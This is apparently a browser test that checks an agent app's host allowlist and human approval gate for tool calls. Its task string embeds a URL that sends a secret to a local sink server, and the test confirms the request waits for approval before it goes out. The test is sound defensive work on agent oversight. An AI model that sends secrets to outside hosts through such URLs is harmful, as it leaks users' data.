"""In the browser: the run form fills in the hosts the task names, the person takes one off, and
the read from that host waits at the gate with its exact URL until she approves it; a local
sink counts what arrives."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.security.test_exfiltration import SECRET, Site

from .flows import login

pytestmark = [pytest.mark.browser, pytest.mark.stack, pytest.mark.django_db(transaction=True)]


def test_the_form_fills_in_the_hosts_and_a_read_elsewhere_waits_with_its_url(
    page, daphne_url, celery_worker_process, make_user
):
    make_user("alice", "pw-for-tests-1")
    with Site("Tea prices rose.") as sink:
        login(page, daphne_url, "alice", "pw-for-tests-1")
        leak = f"{sink.url}/collect?d={SECRET}"
        task = f"Summarize {leak} and compare with example.org"
        with page.expect_response("**/runs/new/hosts/"):
            page.fill("#id_task", task)
        hosts = page.locator("#id_allowed_hosts")
        expect(hosts).to_have_value(f"{sink.host}, example.org")

        # She takes the sink off the list; typing on in the task keeps her list.
        hosts.fill("example.org")
        with page.expect_response("**/runs/new/hosts/"):
            page.fill("#id_task", task + " in two lines")
        expect(page.locator("#id_allowed_hosts")).to_have_value("example.org")
        page.click("#plan-it")
        expect(page.locator("#approve-plan")).to_be_visible(timeout=30_000)
        expect(page.locator("#run-allowed-hosts")).to_have_text("example.org")
        page.click("#approve-plan")

        pending = page.locator("#approvals-pending .approval")
        expect(pending).to_have_count(1, timeout=30_000)
        expect(pending).to_have_attribute("data-tool", "fetch_url")
        expect(pending.locator(".approval-args")).to_contain_text(leak)
        expect(pending.locator(".approval-hosts")).to_contain_text(sink.host)
        assert sink.requests() == []

        pending.locator(".approve-call").click()
        expect(page.locator("#run-status")).to_have_text("succeeded", timeout=60_000)
        assert sink.requests() == [f"/collect?d={SECRET}"]
    expect(page.locator("#receipts tbody tr")).to_have_count(1)
    assert page.js_errors == []
